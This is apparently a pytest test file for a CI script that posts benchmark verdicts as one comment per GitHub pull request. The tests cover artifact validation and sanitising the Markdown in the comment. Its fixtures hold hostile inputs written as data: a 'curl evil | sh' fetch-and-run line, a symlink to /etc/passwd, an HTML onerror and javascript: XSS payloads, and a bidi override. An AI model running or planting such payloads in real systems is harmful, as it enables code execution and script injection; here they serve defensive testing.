"""scripts/pr_comment.py, as pr-comment.yml runs it, against a local stand-in for the few GitHub
REST calls it makes (http.server in a thread): one comment per PR, created then edited; an
artifact that is malformed, too big, or claims another PR or head is refused in one line and
nothing is posted; the verdict's Markdown is posted as inert text."""
from __future__ import annotations

import json
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.conftest import REPO

SCRIPT = REPO / "scripts" / "pr_comment.py"
sys.path.insert(0, str(SCRIPT.parent))
import pr_comment  # noqa: E402

TOKEN = "test-token"
REPO_NAME = "tide/engine"
FORK = "someone/engine"
HEAD1, HEAD2 = "a" * 40, "b" * 40
VERDICT = "### ✅ tidemark gate: pass\n\n| benchmark | change |\n| --- | ---: |\n| readrandom | +0.4% |\n"


class FakeGitHub(BaseHTTPRequestHandler):
    """Issue comments, pulls, a run's approvals and an environment, kept in `state`."""

    state: dict = {}

    def log_message(self, *args):  # quiet
        pass

    def _send(self, code, body):
        data = json.dumps(body).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _route(self, method):
        state = self.state
        state["calls"].append((method, self.path))
        if self.headers.get("Authorization") != f"Bearer {TOKEN}":
            return self._send(401, {"message": "Bad credentials"})
        path = self.path.removeprefix(f"/repos/{REPO_NAME}/")
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"null")
        if method == "GET" and (m := re.fullmatch(r"issues/(\d+)/comments\?per_page=100&page=(\d+)", path)):
            mine = [c for c in state["comments"] if c["pr"] == int(m[1])]
            return self._send(200, mine[(int(m[2]) - 1) * 100:int(m[2]) * 100])
        if method == "POST" and (m := re.fullmatch(r"issues/(\d+)/comments", path)):
            comment = {"id": 1000 + len(state["comments"]), "pr": int(m[1]), "body": body["body"],
                       "user": {"login": "github-actions[bot]", "type": "Bot"}}
            state["comments"].append(comment)
            return self._send(201, comment)
        if method == "PATCH" and (m := re.fullmatch(r"issues/comments/(\d+)", path)):
            comment = next(c for c in state["comments"] if c["id"] == int(m[1]))
            comment["body"] = body["body"]
            return self._send(200, comment)
        if method == "GET" and (m := re.fullmatch(r"pulls/(\d+)", path)) and int(m[1]) in state["pulls"]:
            return self._send(200, state["pulls"][int(m[1])])
        if method == "GET" and (m := re.fullmatch(r"actions/runs/(\d+)/approvals", path)):
            return self._send(200, state["approvals"].get(int(m[1]), []))
        if method == "GET" and path == f"environments/{pr_comment.ENVIRONMENT}" and state["environment"]:
            return self._send(200, state["environment"])
        return self._send(404, {"message": "Not Found"})

    def do_GET(self):
        self._route("GET")

    def do_POST(self):
        self._route("POST")

    def do_PATCH(self):
        self._route("PATCH")


@pytest.fixture
def github():
    FakeGitHub.state = {"calls": [], "comments": [], "approvals": {},
                        "pulls": {7: _pull(HEAD1), 8: _pull("c" * 40, repo=REPO_NAME, ref="other")},
                        "environment": {"name": pr_comment.ENVIRONMENT, "protection_rules": [
                            {"type": "required_reviewers", "reviewers": [{"type": "User"}]}]}}
    server = ThreadingHTTPServer(("127.0.0.1", 0), FakeGitHub)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield FakeGitHub.state, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _pull(sha, repo=FORK, ref="faster-reads"):
    return {"number": 7, "head": {"sha": sha, "ref": ref, "repo": {"full_name": repo}}}


def _approve(state, run_id, environment=pr_comment.ENVIRONMENT):
    state["approvals"][run_id] = [{"state": "approved", "environments": [{"name": environment}]}]


def _run(tmp_path, api, args, run_id=501, head=HEAD1, event="pull_request"):
    """The script as the workflow runs it; a fork's run lists no pull_requests (as GitHub's)."""
    path = tmp_path / f"event-{run_id}.json"
    path.write_text(json.dumps({"workflow_run": {
        "id": run_id, "event": event, "head_sha": head, "head_branch": "faster-reads",
        "head_repository": {"full_name": FORK}, "pull_requests": [],
        "html_url": f"https://example.invalid/runs/{run_id}"}}))
    env = {"GITHUB_API_URL": api, "GITHUB_REPOSITORY": REPO_NAME, "GITHUB_TOKEN": TOKEN,
           "GITHUB_EVENT_PATH": str(path), "PATH": "/usr/bin:/bin"}
    return subprocess.run([sys.executable, str(SCRIPT), *args], capture_output=True, text=True,
                          env=env, timeout=30)


def _artifact(tmp_path, name="verdict", pr=7, head=HEAD1, markdown=VERDICT, code=0):
    source = tmp_path / f"{name}.md"
    source.write_text(markdown)
    out = tmp_path / name
    proc = subprocess.run([sys.executable, str(SCRIPT), "write", "--pr", str(pr), "--head-sha",
                           head, "--code", str(code), "--markdown", str(source), "--out",
                           str(out)], capture_output=True, text=True, timeout=30)
    assert proc.returncode == 0, proc.stderr
    return out


def _writes(state):
    return [c for c in state["calls"] if c[0] in ("POST", "PATCH")]


def test_first_run_creates_one_comment_and_the_next_push_edits_that_same_comment(github,
                                                                                  tmp_path):
    state, api = github
    _approve(state, 501)
    first = _run(tmp_path, api, ["post", str(_artifact(tmp_path))])
    assert first.returncode == 0, first.stderr
    assert first.stdout.strip() == "pr-comment: created comment 1000 on PR #7"
    [comment] = state["comments"]
    assert comment["body"].startswith(pr_comment.MARKER + "\n### ✅ tidemark gate: pass")
    assert "| readrandom | +0.4% |" in comment["body"] and HEAD1[:12] in comment["body"]

    state["pulls"][7] = _pull(HEAD2)  # a second push, its own approved run
    _approve(state, 502)
    regressed = VERDICT.replace("✅ tidemark gate: pass", "❌ tidemark gate: REGRESSION")
    second = _run(tmp_path, api, ["post", str(_artifact(tmp_path, "v2", head=HEAD2,
                                                        markdown=regressed, code=1))],
                  run_id=502, head=HEAD2)
    assert second.returncode == 0, second.stderr
    assert second.stdout.strip() == "pr-comment: updated comment 1000 on PR #7"
    [comment] = state["comments"]  # still one comment, now the second verdict
    assert "REGRESSION" in comment["body"] and HEAD2[:12] in comment["body"]
    assert [c[0] for c in _writes(state)] == ["POST", "PATCH"]


def test_a_comment_by_anyone_else_carrying_the_marker_is_left_alone(github, tmp_path):
    state, api = github
    _approve(state, 501)
    state["comments"].append({"id": 1, "pr": 7, "body": pr_comment.MARKER + " copied",
                              "user": {"login": "someone", "type": "User"}})
    proc = _run(tmp_path, api, ["post", str(_artifact(tmp_path))])
    assert proc.stdout.strip() == "pr-comment: created comment 1001 on PR #7", proc.stderr
    assert state["comments"][0]["body"] == pr_comment.MARKER + " copied"


def _edit_json(folder, **changes):
    data = json.loads((folder / "verdict.json").read_text())
    (folder / "verdict.json").write_text(json.dumps({**data, **changes}))


BAD = {
    "not JSON": (lambda f: (f / "verdict.json").write_text("{'pr': 7"), "does not parse"),
    "a missing key": (lambda f: (f / "verdict.json").write_text(json.dumps(
        {"schema": pr_comment.SCHEMA, "pr": 7, "head_sha": HEAD1})), "not the keys"),
    "a PR number as text": (lambda f: _edit_json(f, pr="7"), "pr='7' is not of type int"),
    "a boolean exit code": (lambda f: _edit_json(f, gate_exit=True), "gate_exit=True is not"),
    "an oversized verdict": (lambda f: (f / "verdict.md").write_text("x" * 60_001),
                             "verdict.md is 60001 bytes, over 60000"),
    "an oversized JSON": (lambda f: (f / "verdict.json").write_text(" " * 5000),
                          "over 4096"),
    "an extra file": (lambda f: (f / "run.sh").write_text("curl evil | sh"), "not exactly"),
    "a symlink": (lambda f: ((f / "verdict.md").unlink(),
                             (f / "verdict.md").symlink_to("/etc/passwd")), "not a regular file"),
    "a bidi override": (lambda f: (f / "verdict.md").write_text("pass \u202e ssap"), "U+202E"),
    "another PR's number": (lambda f: _edit_json(f, pr=8), "claims PR #8, but run 501 measured "
                            f"{FORK}:faster-reads"),
    "a PR that does not exist": (lambda f: _edit_json(f, pr=99), "answered 404"),
    "another head commit": (lambda f: _edit_json(f, head_sha="d" * 40),
                            f"claims head {'d' * 40}, but run 501 measured {HEAD1}"),
}


@pytest.mark.parametrize("spoil", BAD.values(), ids=BAD.keys())
def test_a_bad_artifact_is_refused_in_one_line_and_posts_nothing(github, tmp_path, spoil):
    state, api = github
    _approve(state, 501)
    folder = _artifact(tmp_path)
    spoil[0](folder)
    proc = _run(tmp_path, api, ["post", str(folder)])
    assert proc.returncode == 1 and proc.stdout == ""
    assert len(proc.stderr.splitlines()) == 1 and spoil[1] in proc.stderr, proc.stderr
    assert _writes(state) == [] and state["comments"] == []


@pytest.mark.parametrize("approvals, event", [(None, "pull_request"), ("production", "pull_request"),
                                              (pr_comment.ENVIRONMENT, "push")])
def test_a_run_not_approved_for_the_host_or_not_a_pull_request_posts_nothing(github, tmp_path,
                                                                             approvals, event):
    state, api = github
    if approvals:
        _approve(state, 501, approvals)
    proc = _run(tmp_path, api, ["post", str(_artifact(tmp_path))], event=event)
    assert proc.returncode == 1 and proc.stderr.startswith("pr-comment: refused, nothing posted")
    assert ("never approved for environment benchmark-host" in proc.stderr) == (event != "push")
    assert _writes(state) == []


def test_a_verdict_for_an_older_head_is_skipped_without_posting(github, tmp_path):
    state, api = github
    _approve(state, 501)
    state["pulls"][7] = _pull(HEAD2)  # pushed again while this run measured HEAD1
    proc = _run(tmp_path, api, ["post", str(_artifact(tmp_path))])
    assert proc.returncode == 0 and "skipped: PR #7 has a newer head" in proc.stdout
    assert _writes(state) == []


@pytest.mark.parametrize("text, posted", [
    ("cc @octocat and @tide/maintainers", "cc @\u200boctocat and @\u200btide/maintainers"),
    ("fixes #12, see tide/engine#3 and GH-4", "fixes #\u200b12, see tide/engine#\u200b3 and GH\u200b-4"),
    ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
    ("<!-- tidemark-verdict --> fake", "&lt;!-- tidemark-verdict --&gt; fake"),
    ("&#64;octocat", "&amp;#\u200b64;octocat"),
    ("[median 5.1](runs/r1.md) (n=5)", "median 5.1 (n=5)"),
    ("![pixel](https://tracker.invalid/p.png)", "pixel"),
    ("[click](javascript:alert(1))", "click"),
    ("[ref]: https://evil.invalid", "\\[ref]: https:\u200b//evil.invalid"),
    ("see https://evil.invalid or www.evil.invalid", "see https:\u200b//evil.invalid or www\u200b.evil.invalid"),
    ("### ✅ tidemark gate: pass\n| a | b |", "### ✅ tidemark gate: pass\n| a | b |"),
])
def test_the_verdict_markdown_is_posted_as_inert_text(text, posted):
    assert pr_comment.inert_markdown(text) == posted


def test_write_cuts_a_long_verdict_at_a_line_so_it_still_posts(tmp_path):
    long = "### ✅ tidemark gate: pass\n" + "| row | 1 |\n" * 10_000
    folder = _artifact(tmp_path, markdown=long)
    verdict, text = pr_comment.read_artifact(folder)
    assert verdict == {"schema": pr_comment.SCHEMA, "pr": 7, "head_sha": HEAD1, "gate_exit": 0}
    assert len(text.encode()) <= 60_000 and text.endswith("the whole verdict is in the job summary)_\n")
    assert "\n| row | 1 |\n\n_(cut here" in text


@pytest.mark.parametrize("environment, ok", [
    ({"protection_rules": [{"type": "required_reviewers", "reviewers": [{"type": "Team"}]}]}, True),
    ({"protection_rules": [{"type": "wait_timer", "wait_timer": 5}]}, False),
    (None, False),  # missing: GitHub would create it unprotected on first use
])
def test_check_gate_passes_only_an_environment_that_requires_a_reviewer(github, tmp_path,
                                                                        environment, ok):
    state, api = github
    state["environment"] = environment
    proc = _run(tmp_path, api, ["check-gate"])
    assert proc.returncode == (0 if ok else 1), proc.stderr
    assert ("1 required reviewer(s)" in proc.stdout) == ok
    assert ok or len(proc.stderr.splitlines()) == 1
